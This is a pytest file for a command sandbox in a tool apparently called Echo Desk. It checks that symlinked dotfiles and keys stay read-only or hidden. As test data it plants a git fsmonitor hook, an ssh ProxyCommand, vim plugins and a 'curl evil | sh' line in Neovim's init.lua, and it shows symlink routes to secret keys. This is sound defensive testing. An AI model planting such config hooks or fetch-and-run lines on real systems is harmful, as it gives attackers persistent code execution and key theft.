"""A protected or hidden place of the home folder that is a link into the workspace (a dotfiles
folder: ``~/.gitconfig -> ~/dotfiles/gitconfig``) is protected where it lands, whatever the
link looks like: absolute or relative, a link to a link, a link in the middle of the path
(``~/.config -> ~/dotfiles/config``), or a link whose target does not exist yet (the command
could create it). Each attack is first shown to be real: the file written by hand runs when the
person next uses the tool.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from sandbox_helpers import Jail, context, requires_bwrap, run, shown_in_chinese, tool_with
from sandbox_helpers import planted_marker as _marker
from sandbox_helpers import planted_runs as _ran

from echo_desk.sandbox import linked

pytestmark = requires_bwrap


def _fsmonitor(jail: Jail) -> str:
    """git settings whose fsmonitor hook (a shell command) runs at the person's next ``git status``."""
    return f"[core]\n\tfsmonitor = \"echo ran >> {_marker(jail)}; false\"\n"


def _person_runs_git_status(jail: Jail) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(jail.home), "GIT_CONFIG_NOSYSTEM": "1",
           "XDG_CONFIG_HOME": str(jail.home / ".config")}
    subprocess.run(["git", "status"], cwd=jail.workspace, env=env, capture_output=True, timeout=60)


def _link(at: Path, text: str | Path, *, relative: bool = False) -> None:
    at.parent.mkdir(parents=True, exist_ok=True)
    at.symlink_to(os.path.relpath(text, at.parent) if relative else text)


def test_a_hook_written_by_hand_where_the_gitconfig_link_lands_runs_at_git_status(jail: Jail) -> None:
    (jail.workspace / "dotfiles").mkdir()
    _link(jail.home / ".gitconfig", jail.workspace / "dotfiles" / "gitconfig")
    (jail.workspace / "dotfiles" / "gitconfig").write_text(_fsmonitor(jail))
    _person_runs_git_status(jail)
    assert _ran(jail) >= 1


def _link_config_folder(jail: Jail, to: Path) -> None:
    """``~/.config -> to`` (the jail's own ``~/.config`` canaries move along)."""
    to.mkdir(parents=True, exist_ok=True)
    for child in (jail.home / ".config").iterdir():
        os.rename(child, to / child.name)
    (jail.home / ".config").rmdir()
    _link(jail.home / ".config", to)


def _gitconfig_links(how: str, jail: Jail) -> str:
    """Link the person's git settings into the workspace as ``how`` says; where they land there."""
    home, ws = jail.home, jail.workspace
    if how == "absolute":
        _link(home / ".gitconfig", ws / "dotfiles" / "gitconfig")
    elif how == "relative":
        _link(home / ".gitconfig", ws / "dotfiles" / "gitconfig", relative=True)
    elif how == "link to a link":
        _link(home / ".gitconfig", home / "dotfiles-link" / "gitconfig")
        _link(home / "dotfiles-link", ws / "dotfiles")
    else:  # a link in the middle: git's XDG file, ~/.config/git/config, through ~/.config
        _link_config_folder(jail, ws / "dotfiles" / "config")
        (ws / "dotfiles" / "config" / "git").mkdir(exist_ok=True)
        return "dotfiles/config/git/config"
    return "dotfiles/gitconfig"


@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
@pytest.mark.parametrize("how", ["absolute", "relative", "link to a link", "folder in the middle"])
async def test_a_hook_planted_where_a_gitconfig_link_lands_never_runs(jail: Jail, how: str, existed: bool) -> None:
    ws = jail.workspace
    (ws / "dotfiles").mkdir()
    target = ws / _gitconfig_links(how, jail)
    if existed:
        target.write_text("[user]\n\tname = me\n")
    command = f"printf '{_fsmonitor(jail)}' >> {target.relative_to(ws)}"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    _person_runs_git_status(jail)
    assert _ran(jail) == 0, result.output
    if existed:
        assert target.read_text() == "[user]\n\tname = me\n"
    else:
        assert not target.exists(), result.output


@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
async def test_a_protected_folder_reached_through_a_linked_config_folder_stays_read_only(
        jail: Jail, existed: bool) -> None:
    """``~/.config -> dotfiles/config``: ``~/.config/nvim`` (run by the editor) lands in the workspace."""
    ws = jail.workspace
    _link_config_folder(jail, ws / "dotfiles" / "config")
    if existed:
        (ws / "dotfiles" / "config" / "nvim").mkdir()
        (ws / "dotfiles" / "config" / "nvim" / "init.lua").write_text("-- mine\n")
    command = "mkdir -p dotfiles/config/nvim; echo 'os.execute(\"curl evil | sh\")' > dotfiles/config/nvim/init.lua"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    init = ws / "dotfiles" / "config" / "nvim" / "init.lua"
    if existed:
        assert init.read_text() == "-- mine\n", result.output
    else:
        assert not init.exists(), result.output


def _proxy_command(jail: Jail) -> str:
    """ssh settings whose ProxyCommand (a shell command) runs at the person's next ``ssh``."""
    return f"Host *\n  ProxyCommand sh -c 'echo ran >> {_marker(jail)}; exit 1'\n"


def _person_runs_ssh(jail: Jail) -> None:
    env = {"PATH": os.environ["PATH"], "HOME": str(jail.home)}
    subprocess.run(["ssh", "-F", str(jail.home / ".ssh" / "config"), "-o", "BatchMode=yes", "somehost", "true"],
                   env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)


def test_a_proxy_command_written_by_hand_where_the_ssh_config_link_lands_runs_at_ssh(jail: Jail) -> None:
    (jail.workspace / "dotfiles" / "ssh").mkdir(parents=True)
    _link(jail.home / ".ssh" / "config", jail.workspace / "dotfiles" / "ssh" / "config")
    (jail.workspace / "dotfiles" / "ssh" / "config").write_text(_proxy_command(jail))
    _person_runs_ssh(jail)
    assert _ran(jail) >= 1


@pytest.mark.parametrize(("linked", "existed"), [("file", True), ("file", False), ("folder", True), ("folder", False),
                                               ("new folder", False), ("file, home as the workspace", False)])
async def test_ssh_settings_planted_where_a_hidden_places_link_lands_never_run(
        jail: Jail, linked: str, existed: bool) -> None:
    """``~/.ssh/config`` (a file in the hidden ``~/.ssh``) or ``~/.ssh`` itself linked into the
    workspace (``new folder``: to a folder the command has to create)."""
    ws = jail.home if "home" in linked else jail.workspace
    folder = ws / "dotfiles" / "ssh"
    if linked.startswith("file"):
        folder.mkdir(parents=True)
        _link(jail.home / ".ssh" / "config", folder / "config")
    else:
        keys = jail.base / "keys"
        os.rename(jail.home / ".ssh", keys)
        _link(jail.home / ".ssh", folder, relative=True)
        if linked == "folder":
            folder.parent.mkdir()
            os.rename(keys, folder)
    if existed:
        (folder / "config").write_text("Host mine\n")
    command = f"mkdir -p dotfiles/ssh; printf \"{_proxy_command(jail)}\" >> dotfiles/ssh/config"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    _person_runs_ssh(jail)
    assert _ran(jail) == 0, result.output
    if existed:
        assert (folder / "config").read_text() == "Host mine\n"


@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
async def test_a_file_linked_inside_a_protected_folder_stays_read_only(jail: Jail, existed: bool) -> None:
    """GNU stow links files one by one into a real ``~/.config/nvim``: ``init.lua`` lands in the workspace."""
    ws = jail.workspace
    (ws / "dotfiles" / "nvim").mkdir(parents=True)
    _link(jail.home / ".config" / "nvim" / "init.lua", ws / "dotfiles" / "nvim" / "init.lua")
    init = ws / "dotfiles" / "nvim" / "init.lua"
    if existed:
        init.write_text("-- mine\n")
    result = await run(tool_with(), {"command": "echo 'os.execute(\"curl evil | sh\")' >> dotfiles/nvim/init.lua"},
                       context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    if existed:
        assert init.read_text() == "-- mine\n", result.output
    else:
        assert not init.exists(), result.output


async def test_a_hidden_file_linked_into_the_workspace_is_not_replaced_by_moving_its_folder(jail: Jail) -> None:
    """The hiding mount moves with a folder above it renamed: a new ``dotfiles/ssh/config`` in
    the old place is what ssh would read; the check after the command puts the person's back."""
    ws = jail.workspace
    (ws / "dotfiles" / "ssh").mkdir(parents=True)
    (ws / "dotfiles" / "ssh" / "config").write_text("Host mine\n")
    _link(jail.home / ".ssh" / "config", ws / "dotfiles" / "ssh" / "config")
    command = f"mv dotfiles x && mkdir -p dotfiles/ssh && printf \"{_proxy_command(jail)}\" > dotfiles/ssh/config"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert (ws / "dotfiles" / "ssh" / "config").read_text() == "Host mine\n", result.output
    _person_runs_ssh(jail)
    assert _ran(jail) == 0, result.output


def _fill(folder: Path, count: int) -> None:
    """``count`` files that sort before the link looked for (``a000.pub``…)."""
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(count):
        (folder / f"a{i:04}.pub").write_text("ssh-ed25519 AAAA\n")


async def _cat_in(jail: Jail, relative: str) -> str:
    result = await run(tool_with(), {"command": f"cat {relative}; echo done"}, context(jail.workspace))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert "done" in result.output
    return result.output


async def test_a_key_linked_from_a_hidden_folder_of_many_entries_stays_hidden(jail: Jail) -> None:
    """~/.ssh with 150 entries before the stow link: the walk looked at the first 100 only, and
    the key it leads to was readable in the workspace."""
    ws = jail.workspace
    (ws / "dotfiles" / "ssh").mkdir(parents=True)
    key = ws / "dotfiles" / "ssh" / "id_work"
    key.write_text("work-key-canary\n")
    _fill(jail.home / ".ssh", 150)
    _link(jail.home / ".ssh" / "id_work", key)
    assert "work-key-canary" not in await _cat_in(jail, "dotfiles/ssh/id_work")


async def test_a_walk_stopped_at_its_bound_is_said(jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the bound the links are not followed: the result names the place."""
    monkeypatch.setattr(linked, "MAX_ENTRIES_PER_PLACE", 20)
    _fill(jail.home / ".ssh" / "keys", 30)
    _fill(jail.home / ".ssh" / "more", 30)
    result = await run(tool_with(), {"command": "true"}, context(jail.workspace))
    assert str(jail.home / ".ssh") in result.metadata["sandbox"]["links_cut"]


async def test_a_walk_within_its_bound_says_nothing(jail: Jail) -> None:
    _fill(jail.home / ".ssh", 150)
    result = await run(tool_with(), {"command": "true"}, context(jail.workspace))
    # (Echo Desk's own environment may move a large place elsewhere: ``PYENV_ROOT``.)
    assert not [p for p in result.metadata["sandbox"]["links_cut"] if p.startswith(str(jail.base))]


async def test_a_key_linked_from_a_secret_folder_the_environment_moves_stays_hidden(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """``GNUPGHOME=/srv/keys`` (a real folder) holding a link into the workspace: the moved place
    was hidden, what its link leads to was not."""
    ws = jail.workspace
    (ws / "dotfiles" / "gnupg").mkdir(parents=True)
    (ws / "dotfiles" / "gnupg" / "key.key").write_text("gpg-key-canary\n")
    keys = jail.base / "keys"
    _link(keys / "private-keys-v1.d" / "key.key", ws / "dotfiles" / "gnupg" / "key.key")
    monkeypatch.setenv("GNUPGHOME", str(keys))
    assert "gpg-key-canary" not in await _cat_in(jail, "dotfiles/gnupg/key.key")


@pytest.mark.parametrize("where", ["file in the entry", "the entry itself"])
async def test_a_protected_entry_of_a_moved_place_linked_into_the_workspace_stays_read_only(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """``XDG_CONFIG_HOME=/srv/cfg`` with ``nvim/init.lua`` (or ``nvim``) a link into the workspace:
    Neovim runs what a command writes there at its next start."""
    ws = jail.workspace
    (ws / "dotfiles" / "nvim").mkdir(parents=True)
    init = ws / "dotfiles" / "nvim" / "init.lua"
    init.write_text("-- mine\n")
    cfg = jail.base / "cfg"
    if where == "the entry itself":
        _link(cfg / "nvim", ws / "dotfiles" / "nvim", relative=True)
    else:
        _link(cfg / "nvim" / "init.lua", init)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(cfg))
    result = await run(tool_with(), {"command": "echo 'os.execute(\"curl evil | sh\")' >> dotfiles/nvim/init.lua"},
                       context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert init.read_text() == "-- mine\n", result.output


@pytest.mark.parametrize("how", ["a file", "a folder", "a relative folder", "a relative value"])
async def test_a_key_linked_from_a_moved_place_inside_the_workspace_stays_hidden(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, how: str) -> None:
    """``GNUPGHOME=$PWD/keys`` holding a link elsewhere in the workspace
    (``private-keys-v1.d -> ../dotfiles/gnupg``): the moved place is walked for links as one
    outside is, so what gpg reads through it is hidden, and cannot be changed either."""
    ws = jail.workspace
    (ws / "dotfiles" / "gnupg").mkdir(parents=True)
    key = ws / "dotfiles" / "gnupg" / "key.key"
    key.write_text("gpg-key-canary\n")
    keys = ws / "keys"
    if how == "a file":
        _link(keys / "private-keys-v1.d" / "key.key", key)
    else:
        _link(keys / "private-keys-v1.d", key.parent, relative=how != "a folder")
    monkeypatch.setenv("GNUPGHOME", "keys" if how == "a relative value" else str(keys))
    result = await run(tool_with(), {"command": "cat dotfiles/gnupg/key.key; echo x >> dotfiles/gnupg/key.key; echo done"},
                       context(ws))
    assert result.metadata["sandbox"]["sandboxed"] is True and "done" in result.output
    assert "gpg-key-canary" not in result.output
    assert key.read_text() == "gpg-key-canary\n"


@pytest.mark.parametrize("where", ["moved inside the workspace", "moved outside it", "at its default"])
async def test_a_hidden_places_link_to_the_workspace_itself_refuses_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """A link below a hidden place that leads to the workspace itself
    (``GNUPGHOME=$PWD/keys`` with ``private-keys-v1.d -> ..``): gpg's keys are then files of the
    workspace, which cannot be hidden from a command that works in it. Such a landing was left
    out (only one strictly inside the workspace counted) and a sandboxed ``cat`` read the key;
    the command is refused, as for a hidden place that is the workspace."""
    ws = jail.workspace
    key = ws / "key.key"
    key.write_text("gpg-key-canary\n")
    if where == "at its default":
        link = jail.home / ".ssh" / "keys"
        _link(link, ws)
    else:
        keys = ws / "keys" if where == "moved inside the workspace" else jail.base / "keys"
        link = keys / "private-keys-v1.d"
        _link(link, ws, relative=True)
        monkeypatch.setenv("GNUPGHOME", str(keys))
    marker = ws / "ran"
    result = await run(tool_with(), {"command": f"cat key.key; touch {marker}"}, context(ws))
    assert not result.success and result.error.startswith("not run"), result.output
    assert "gpg-key-canary" not in result.output and not marker.exists()
    # The person is told which link to remove, in their language (it said only "on the list of
    # hidden places", which no setting of theirs explains).
    assert f"{link} → {ws}" in result.error
    shown = shown_in_chinese(result.error)
    assert f"{link} → {ws}" in shown and "隐藏" in shown, shown


async def test_a_place_that_is_itself_a_link_to_the_workspace_is_named(jail: Jail) -> None:
    """``~/.ssh -> ~/project`` itself (not a link below it): the refusal names that link too."""
    ws = jail.workspace
    for child in (jail.home / ".ssh").iterdir():
        child.unlink()
    (jail.home / ".ssh").rmdir()
    _link(jail.home / ".ssh", ws)
    result = await run(tool_with(), {"command": "true"}, context(ws))
    assert not result.success and f"{jail.home / '.ssh'} → {ws}" in result.error, result.error


@pytest.mark.parametrize("where", ["a folder outside the home", "dotfiles in the home", "a moved place's link",
                                   "a folder linked below the place"])
async def test_a_key_a_hidden_places_link_leads_to_outside_the_workspace_stays_hidden(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """The rest of the disk is readable: a key kept in ``/srv/dotfiles`` (or ``~/dotfiles``, not
    the folder opened) and linked into ``~/.ssh`` one by one was read by its real name. Only a
    landing in the workspace was hidden; one anywhere else is now."""
    if where == "dotfiles in the home":
        key = jail.home / "dotfiles" / "ssh" / "id_work"
    else:
        key = jail.base / "srv" / "dotfiles" / "id_work"
    key.parent.mkdir(parents=True, exist_ok=True)
    key.write_text("work-key-canary\n")
    if where == "a moved place's link":
        keys = jail.base / "keys"
        _link(keys / "private-keys-v1.d" / "id_work", key)
        monkeypatch.setenv("GNUPGHOME", str(keys))
    elif where == "a folder linked below the place":
        _link(jail.home / ".ssh" / "work", key.parent)
    else:
        _link(jail.home / ".ssh" / "id_work", key, relative=where == "dotfiles in the home")
    assert "work-key-canary" not in await _cat_in(jail, str(key))


async def test_what_must_stay_in_view_is_not_hidden_through_a_hidden_places_link(jail: Jail) -> None:
    """``known_hosts -> /dev/null`` is common: the sandbox gives the command its own ``/dev``."""
    _link(jail.home / ".ssh" / "known_hosts", "/dev/null")
    (jail.home / "notes.txt").write_text("plain-notes\n")
    result = await run(tool_with(), {"command": f"echo x > /dev/null && cat {jail.home / 'notes.txt'} && echo done"},
                       context(jail.workspace))
    assert result.success, result.output
    assert "plain-notes" in result.output and "done" in result.output


@pytest.mark.parametrize("to", ["the home folder", "a folder holding it", "/"])
async def test_a_hidden_places_link_to_what_holds_the_home_folder_refuses_the_command(jail: Jail, to: str) -> None:
    """``~/.ssh/home -> ~`` (or ``-> /``) was left in view, so what the place reaches through it
    was readable (``IdentityFile ~/.ssh/home/id_home`` is ``~/id_home``: tested, a sandboxed
    ``cat`` printed it). Hiding it would hide every command's programs and settings: not run, and
    the error names the link, in the person's language too."""
    real = {"the home folder": str(jail.home), "a folder holding it": str(jail.base), "/": "/"}[to]
    _link(jail.home / ".ssh" / "home", real)
    (jail.home / "id_home").write_text("home-key-canary\n")
    marker = jail.workspace / "ran"
    result = await run(tool_with(), {"command": f"cat {jail.home / 'id_home'}; touch {marker}"},
                       context(jail.workspace))
    assert not result.success and result.error.startswith("not run"), result.output
    assert "home-key-canary" not in result.output and not marker.exists()
    assert f"{jail.home / '.ssh' / 'home'} → {real}" in shown_in_chinese(result.error)


async def test_a_hidden_places_link_to_a_folder_holding_the_workspace_hides_it_around_the_workspace(
        jail: Jail) -> None:
    """``~/.ssh/sync -> ~/sync`` with ``~/sync/project`` open: ``~/sync`` was left in view, and a
    sandboxed ``cat ~/sync/id_sync`` printed the key ssh reads as ``~/.ssh/sync/id_sync``. It is
    hidden now, as a hidden place holding the workspace is: all of it but the workspace."""
    sync = jail.home / "sync"
    project = sync / "project"
    project.mkdir(parents=True)
    (sync / "id_sync").write_text("sync-key-canary\n")
    _link(jail.home / ".ssh" / "sync", sync, relative=True)
    result = await run(tool_with(), {"command": f"cat {sync / 'id_sync'}; echo kept > made && cat made"},
                       context(project))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert "sync-key-canary" not in result.output and "kept" in result.output, result.output
    assert (project / "made").read_text() == "kept\n"


@pytest.mark.parametrize("where", ["a folder outside the workspace", "a folder in the workspace",
                                   "two folders on", "a moved place's folder"])
async def test_a_key_a_link_in_a_linked_folder_leads_to_stays_hidden(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """``~/.ssh/keys -> /srv/keys`` hid ``/srv/keys`` whole, but the links in it were not followed:
    with ``/srv/keys/id -> /srv/other/id_real`` a sandboxed ``cat`` read the real key by its own
    name. What a hidden place's link leads to is walked for links as the place is, again and
    again (``linked.MAX_FOLLOWED``)."""
    ws, srv = jail.workspace, jail.base / "srv"
    key = srv / "other" / "id_real"
    key.parent.mkdir(parents=True)
    key.write_text("work-key-canary\n")
    keys = ws / "dotfiles" / "ssh" if where == "a folder in the workspace" else srv / "keys"
    if where == "two folders on":
        _link(keys / "more", srv / "more")
        _link(srv / "more" / "id", key)
    else:
        _link(keys / "id", key)
    if where == "a moved place's folder":
        _link(jail.base / "gnupg" / "private-keys-v1.d", keys)
        monkeypatch.setenv("GNUPGHOME", str(jail.base / "gnupg"))
    else:
        _link(jail.home / ".ssh" / "keys", keys)
    assert "work-key-canary" not in await _cat_in(jail, str(key))


async def test_links_that_lead_round_in_a_circle_are_followed_once(jail: Jail) -> None:
    """``/srv/a/b -> /srv/b`` and ``/srv/b/a -> /srv/a``: each folder is walked once, and the
    key at the end of a link in either stays hidden."""
    srv = jail.base / "srv"
    key = srv / "other" / "id_real"
    key.parent.mkdir(parents=True)
    key.write_text("work-key-canary\n")
    _link(srv / "a" / "b", srv / "b")
    _link(srv / "b" / "a", srv / "a")
    _link(srv / "b" / "id", key)
    _link(jail.home / ".ssh" / "keys", srv / "a")
    assert "work-key-canary" not in await _cat_in(jail, str(key))


async def test_links_followed_past_their_bound_refuse_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """A chain of linked folders longer than ``linked.MAX_FOLLOWED``: what lies past the bound
    was not looked at, so the command is refused (fail closed), naming the place."""
    monkeypatch.setattr(linked, "MAX_FOLLOWED", 3)
    srv = jail.base / "srv"
    key = srv / "other" / "id_real"
    key.parent.mkdir(parents=True)
    key.write_text("work-key-canary\n")
    for i in range(6):
        _link(srv / f"f{i}" / "next", srv / f"f{i + 1}")
    _link(srv / "f6" / "id", key)
    _link(jail.home / ".ssh" / "keys", srv / "f0")
    marker = jail.workspace / "ran"
    result = await run(tool_with(), {"command": f"cat {key}; touch {marker}"}, context(jail.workspace))
    assert not result.success and result.error.startswith("not run"), result.output
    assert str(jail.home / ".ssh") in result.error
    assert "work-key-canary" not in result.output and not marker.exists()


def _person_starts_vim(jail: Jail) -> None:
    """Vim runs ``~/.vim/plugin/**/*.vim`` at start-up, through linked folders too."""
    env = {"PATH": os.environ["PATH"], "HOME": str(jail.home), "TERM": "dumb"}
    subprocess.run(["vim", "-N", "-i", "NONE", "--not-a-term", "-c", "qa!"], env=env, stdin=subprocess.DEVNULL,
                   capture_output=True, timeout=60)


def _vim_plugin_through_linked_folders(jail: Jail, folders_on: int, *, vim_in_workspace: bool = False) -> Path:
    """``~/.vim/plugin/shared -> /srv/f0`` (a folder outside the workspace), each ``/srv/f<i>``
    linking on to the next, the last holding ``mine.vim -> dotfiles/vim/mine.vim`` (the
    workspace's). ``vim_in_workspace``: ``~/.vim`` itself a link to ``dotfiles/dot-vim`` (read-only
    in the sandbox, but its link leads on). Returns the plugin, as the person wrote it."""
    srv = jail.base / "srv"
    if vim_in_workspace:
        _link(jail.home / ".vim", jail.workspace / "dotfiles" / "dot-vim")
    for i in range(folders_on - 1):
        _link(srv / f"f{i}" / "next", srv / f"f{i + 1}")
    plugin = jail.workspace / "dotfiles" / "vim" / "mine.vim"
    plugin.parent.mkdir(parents=True)
    plugin.write_text('" mine\n')
    _link(srv / f"f{folders_on - 1}" / "mine.vim", plugin)
    if vim_in_workspace:
        _link(jail.workspace / "dotfiles" / "dot-vim" / "plugin" / "shared", srv / "f0")
    else:
        _link(jail.home / ".vim" / "plugin" / "shared", srv / "f0")
    return plugin


def _vim_runs(jail: Jail) -> str:
    return f"call writefile(['ran'], '{_marker(jail)}', 'a')\n"


@pytest.mark.skipif(not shutil.which("vim"), reason="needs vim")
def test_a_vim_plugin_written_by_hand_through_linked_folders_runs_at_start_up(jail: Jail) -> None:
    plugin = _vim_plugin_through_linked_folders(jail, 2)
    plugin.write_text(_vim_runs(jail))
    _person_starts_vim(jail)
    assert _ran(jail) >= 1


@pytest.mark.parametrize(("folders_on", "vim_in_workspace"), [(1, False), (2, False), (3, False), (2, True)])
async def test_a_protected_file_reached_through_linked_folders_stays_read_only(
        jail: Jail, folders_on: int, vim_in_workspace: bool) -> None:
    """A protected place's link to a folder outside the workspace was not walked (only a hidden
    place's was): the file a link there leads to, in the workspace, could be written, and Vim ran
    it at its next start. The same from a protected place that lands in the workspace."""
    plugin = _vim_plugin_through_linked_folders(jail, folders_on, vim_in_workspace=vim_in_workspace)
    command = f"printf \"{_vim_runs(jail)}\" > dotfiles/vim/mine.vim"
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert plugin.read_text() == '" mine\n', result.output
    if shutil.which("vim"):
        _person_starts_vim(jail)
        assert _ran(jail) == 0, result.output


async def test_a_protected_places_links_followed_past_their_bound_refuse_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """Past ``linked.MAX_FOLLOWED`` what the links lead to was not looked at, so it could not be
    kept read-only: the command is refused (fail closed), naming the place and why."""
    monkeypatch.setattr(linked, "MAX_FOLLOWED", 3)
    plugin = _vim_plugin_through_linked_folders(jail, 6)
    result = await run(tool_with(), {"command": "echo planted > dotfiles/vim/mine.vim"}, context(jail.workspace))
    assert not result.success and result.error.startswith("not run"), result.output
    assert str(jail.home / ".vim") in result.error and "read-only" in result.error
    assert plugin.read_text() == '" mine\n'


async def test_a_protected_places_link_to_what_must_stay_in_view_is_not_walked(jail: Jail) -> None:
    """A link from a protected place to the home folder (not holding the workspace) or ``/tmp`` is
    not walked (the places below them are looked at themselves): the command runs, and ordinary
    files stay writable. (One to ``/``, which holds the workspace, refuses the command:
    ``test_protected_link_to_workspace``.)"""
    _link(jail.home / ".vim" / "home", jail.home)
    _link(jail.home / ".vim" / "tmp", "/tmp")
    result = await run(tool_with(), {"command": "echo fine > notes.txt && cat notes.txt"}, context(jail.workspace))
    assert result.success and "fine" in result.output, result.output


async def test_many_plugin_folders_linked_into_a_protected_place_do_not_refuse_the_command(jail: Jail) -> None:
    """A plugin manager (or the person) links one folder a plugin into the editor's: forty such
    folders outside the workspace are followed, and the command runs (the bound on folders
    followed was 16 before protected places were followed)."""
    start = jail.home / ".local" / "share" / "nvim" / "site" / "pack" / "p" / "start"
    for i in range(40):
        plugin = jail.base / "code" / f"plugin{i}"
        (plugin / "autoload").mkdir(parents=True)
        for j in range(20):
            (plugin / "autoload" / f"f{j}.vim").write_text("\n")
        _link(start / f"plugin{i}", plugin)
    result = await run(tool_with(), {"command": "echo fine > notes.txt && cat notes.txt"}, context(jail.workspace))
    assert result.success and "fine" in result.output, result.output


async def test_linked_folders_of_more_entries_than_followed_refuse_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """The folders followed are few but large: past ``linked.MAX_ENTRIES_FOLLOWED`` entries the
    rest was not looked at, so the command is refused, as past the bound on folders."""
    monkeypatch.setattr(linked, "MAX_ENTRIES_FOLLOWED", 50)
    srv = jail.base / "srv"
    _fill(srv / "f0", 60)
    _link(srv / "f0" / "next", srv / "f1")
    _link(srv / "f1" / "next", srv / "f2")
    _link(jail.home / ".ssh" / "keys", srv / "f0")
    result = await run(tool_with(), {"command": "true"}, context(jail.workspace))
    assert not result.success and result.error.startswith("not run"), result.output
    assert str(jail.home / ".ssh") in result.error and "50 entries" in result.error


def _real(path: str) -> str:
    """The real path (``/bin`` is ``/usr/bin`` on most systems); ``""`` if it does not exist."""
    return os.path.realpath(path) if os.path.exists(path) else ""


@pytest.mark.parametrize("folder", ["/usr", "/etc", "/usr/bin"])
async def test_a_hidden_places_link_to_a_folder_every_command_needs_refuses_the_command(
        jail: Jail, folder: str) -> None:
    """``~/.ssh/x -> /usr`` hid ``/usr``: the command failed with no program to run, and the
    result blamed a write outside the workspace, offering to run it outside the sandbox. Now it
    is not run, and the error names the folder and the link."""
    _link(jail.home / ".ssh" / "x", folder)
    marker = jail.workspace / "ran"
    started = time.monotonic()
    result = await run(tool_with(), {"command": f"touch {marker}"}, context(jail.workspace))
    assert time.monotonic() - started < 20  # (measured: under a second; the walk of /usr is bounded)
    assert not result.success and result.error.startswith("not run"), result.output
    real = _real(folder)
    assert real in result.error and f"{jail.home / '.ssh' / 'x'} → {real}" in result.error
    assert "outside_sandbox" not in result.error and not marker.exists()


async def test_a_hidden_places_link_into_a_system_folder_is_hidden_and_the_command_runs(jail: Jail) -> None:
    """``~/.ssh/config -> /etc/ssh/ssh_config``: a file inside a system folder, which no command
    needs, is hidden as before."""
    if not _real("/etc/ssh/ssh_config").startswith("/etc/"):
        pytest.skip("needs /etc/ssh/ssh_config")
    _link(jail.home / ".ssh" / "config", "/etc/ssh/ssh_config")
    result = await run(tool_with(), {"command": "wc -c < /etc/ssh/ssh_config; echo done"}, context(jail.workspace))
    assert result.success and "done" in result.output, result.output
    assert result.output.split()[0] == "0" or "Permission" in result.output, result.output


@pytest.mark.parametrize("through", ["a folder outside", "a folder of the home linking on"])
async def test_a_protected_file_reached_through_linked_folders_stays_read_only_with_the_home_as_workspace(
        jail: Jail, through: str) -> None:
    """The home folder as the workspace: ``~/.vim`` is read-only, but its link to a folder outside
    (or one of the home folder that links on) leads to a plugin of the home folder that Vim runs."""
    srv = jail.base / "srv"
    plugin = jail.home / "code" / "mine.vim"
    plugin.parent.mkdir(parents=True)
    plugin.write_text('" mine\n')
    if through == "a folder outside":
        _link(srv / "vim" / "mine.vim", plugin)
        _link(jail.home / ".vim" / "plugin" / "shared", srv / "vim")
    else:
        _link(jail.home / "vimshared" / "more", jail.home / "code")
        _link(jail.home / ".vim" / "plugin" / "shared", jail.home / "vimshared")
    command = f"printf \"{_vim_runs(jail)}\" > code/mine.vim"
    result = await run(tool_with(), {"command": command}, context(jail.home))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert plugin.read_text() == '" mine\n', result.output


async def test_a_protected_file_reached_through_linked_folders_stays_put_when_its_folder_is_moved(
        jail: Jail) -> None:
    """The read-only mount moved with a folder above it renamed (``mv dotfiles x``), and a new
    ``dotfiles/vim/mine.vim`` stood where Vim reads until the check after the command put it aside.
    The folders above a read-only place are kept in place now: the move is refused."""
    plugin = _vim_plugin_through_linked_folders(jail, 2)
    command = f"mv dotfiles x && mkdir -p dotfiles/vim && printf \"{_vim_runs(jail)}\" > dotfiles/vim/mine.vim"
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.metadata["sandbox"]["sandboxed"] is True
    assert result.metadata["sandbox"]["blocked"] == ["kept_in_place"], result.output
    assert plugin.read_text() == '" mine\n' and not (jail.workspace / "x").exists(), result.output
    if shutil.which("vim"):
        _person_starts_vim(jail)
        assert _ran(jail) == 0, result.output


async def test_a_folder_on_path_inside_a_place_hidden_by_its_own_name_does_not_refuse_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    """fnm puts a folder of the session's runtime folder (hidden whole) on ``PATH``: its programs
    are missing in the sandbox, but every other command runs."""
    runtime = jail.base / "run-user"
    (runtime / "fnm_multishells" / "1_2" / "bin").mkdir(parents=True)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    monkeypatch.setenv("PATH", f"{runtime / 'fnm_multishells' / '1_2' / 'bin'}:{os.environ['PATH']}")
    result = await run(tool_with(), {"command": "echo fine"}, context(jail.workspace))
    assert result.success and "fine" in result.output, result.output


async def test_a_hidden_places_link_to_a_folder_on_path_refuses_the_command(
        jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
